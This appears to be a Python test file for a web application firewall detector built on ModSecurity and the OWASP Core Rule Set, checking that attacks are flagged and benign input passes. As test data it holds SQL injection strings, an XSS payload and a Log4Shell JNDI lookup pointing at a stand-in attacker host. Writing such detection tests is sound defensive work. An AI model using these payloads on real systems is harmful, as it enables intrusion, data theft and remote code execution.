"""ModSecurity + OWASP CRS as the detector: what it reports and what it remembers."""

from __future__ import annotations

from lamina.gateway.waf.detect import Attack, CrsDetector


def test_detection_names_crs_rules_and_benign_input_passes() -> None:
    sqli = CrsDetector(Attack.SQLI, 1)
    found = sqli.detect([b"1' UNION SELECT password FROM users--"])
    assert found is not None and all(942000 <= rule < 943000 for rule in found)
    assert sqli.detect([b"Conan O'Brien"]) is None
    assert sqli.detect([b"", b""]) is None  # nothing to inspect


def test_any_element_is_enough() -> None:
    xss = CrsDetector(Attack.XSS, 1)
    assert xss.detect([b"hello", b"<svg/onload=alert(1)>", b"world"]) is not None
    assert xss.detect([b"hello", b"world"]) is None


def test_repeated_input_gets_the_same_verdict_and_rules() -> None:
    sqli = CrsDetector(Attack.SQLI, 1)
    first = sqli.detect([b"1' or '1'='1"])
    sqli.detect([b"1 AND SLEEP(5)"])  # another attack in between changes last_rules
    again = sqli.detect([b"1' or '1'='1"])
    assert first is not None and again == first and sqli.last_rules == first
    assert sqli.detect([b"red shoes"]) is None and sqli.detect([b"red shoes"]) is None


def test_long_input_is_inspected_every_time() -> None:
    sqli = CrsDetector(Attack.SQLI, 1)
    long_attack = b"x" * 600 + b"' UNION SELECT password FROM users--"
    assert sqli.detect([long_attack]) is not None
    assert sqli.detect([long_attack]) is not None


def test_paranoia_level_two_is_stricter() -> None:
    assert CrsDetector(Attack.SQLI, 1).detect([b"order by price"]) is None
    assert CrsDetector(Attack.SQLI, 2).detect([b"order by price"]) is not None


def test_java_rules_catch_log4shell() -> None:
    java = CrsDetector(Attack.JAVA, 1)
    assert java.detect([b"${jndi:ldap://attacker.example/a}"]) is not None
    assert java.detect([b"${project.version}"]) is None
